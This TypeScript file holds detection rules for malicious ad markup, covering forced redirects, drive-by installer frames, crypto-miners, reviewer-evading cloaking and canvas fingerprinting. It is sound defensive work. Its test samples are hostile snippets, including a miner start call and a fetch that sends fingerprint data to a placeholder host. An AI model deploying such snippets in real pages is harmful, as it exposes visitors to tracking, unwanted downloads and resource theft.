import type { Rule } from './rule.ts'

/**
 * Rules for attacks that the guards do not stop, or stop late. Redirects, downloads, forms and reading of the page are caught by behaviour.
 */
export const markupRules: Rule[] = [
  {
    id: 'meta-refresh',
    threatClass: 'forced-redirect',
    variant: 'meta-refresh',
    explanation:
      'A refresh instruction that leads to another address leaves without a click. One without an address only reloads the ad.',
    place: 'part',
    pattern: /^<meta(?=[^>]{0,600}refresh)[^>]{0,600}url/,
    matches: [
      '<meta http-equiv="refresh" content="0;url=https://prize.example/">',
      "<META HTTP-EQUIV='Refresh' CONTENT='1; URL=//a.example'>",
      '<meta content="0;url=//a.example" http-equiv=refresh>',
    ],
    sparing: [
      '<meta http-equiv="refresh" content="30">',
      '<meta name="viewport" content="width=device-width">',
      '<p>Refresh your home: url = shop.example</p>',
    ],
  },
  {
    id: 'installer-push',
    threatClass: 'drive-by-download',
    variant: 'installer-push',
    explanation: 'A frame or object that points at an installable file starts a download by itself.',
    place: 'markup',
    pattern: /<(?:i?frame|object|embed)[^>]{0,600}\.(?:exe|msix?|apk|dmg|pkg|scr|bat|appx|hta|mobileconfig)\b(?!\.)/,
    matches: [
      '<iframe src="https://a.example/setup.exe" hidden></iframe>',
      '<object data="//a.example/update.apk"></object>',
      '<iframe src="/vpn.mobileconfig"></iframe>',
    ],
    sparing: [
      '<a href="https://vendor.example/setup.exe">Download</a>',
      '<iframe src="https://a.example/ad.html?file=x.png"></iframe>',
    ],
  },
  {
    id: 'wasm-miner',
    threatClass: 'cryptomining',
    variant: 'wasm-miner',
    explanation: 'The names that clients of mining services use, or the protocol of the pools.',
    place: 'markup',
    pattern: /\b(?:coinhive|cryptoloot|deepminer|coinimp)\.(?:anonymous|user)\b|stratum\+/,
    matches: ["new CoinHive.Anonymous('KEY').start()", "pool = 'stratum+tcp://pool.example:3333'"],
    sparing: ['Coinhive is history: read the story'],
  },
  {
    id: 'fingerprint-cloak',
    threatClass: 'cloaked-landing-page',
    variant: 'fingerprint-cloak',
    explanation: 'Looks for the marks of a reviewer’s browser, and leads others elsewhere.',
    place: 'markup',
    pattern:
      /(?:navigator\.webdriver|headlesschrome|_phantom|callphantom)[\s\S]{0,300}(?:\.href|location|\.action) ?=[^=]/,
    matches: [
      "if (!navigator.webdriver) { link.href = 'https://other.example' }",
      '/HeadlessChrome/.test(ua) || (a.href = b)',
    ],
    sparing: ['beacon.wd = navigator.webdriver ? 1 : 0', "if (/Headless/.test(band)) document.title = 'Gig'"],
  },
  {
    id: 'canvas-fingerprint',
    threatClass: 'data-theft',
    variant: 'canvas-fingerprint',
    explanation: 'Draws in order to read the pixels back, takes other marks of the device, and sends all of it away.',
    place: 'markup',
    pattern: /filltext ?\([\s\S]{0,800}\.(?:todataurl|getimagedata)/,
    also: /navigator\.plugins|hardwareconcurrency|devicememory|audiocontext|enumeratedevices/,
    matches: [
      "c.fillText('abc',1,1); d = canvas.toDataURL(); p = navigator.plugins.length; fetch('//t.example/?' + d + p)",
    ],
    sparing: [
      "c.fillText('Sale', 10, 10); poster.src = canvas.toDataURL()",
      "fetch('/stats?cores=' + navigator.hardwareConcurrency)",
    ],
  },
]
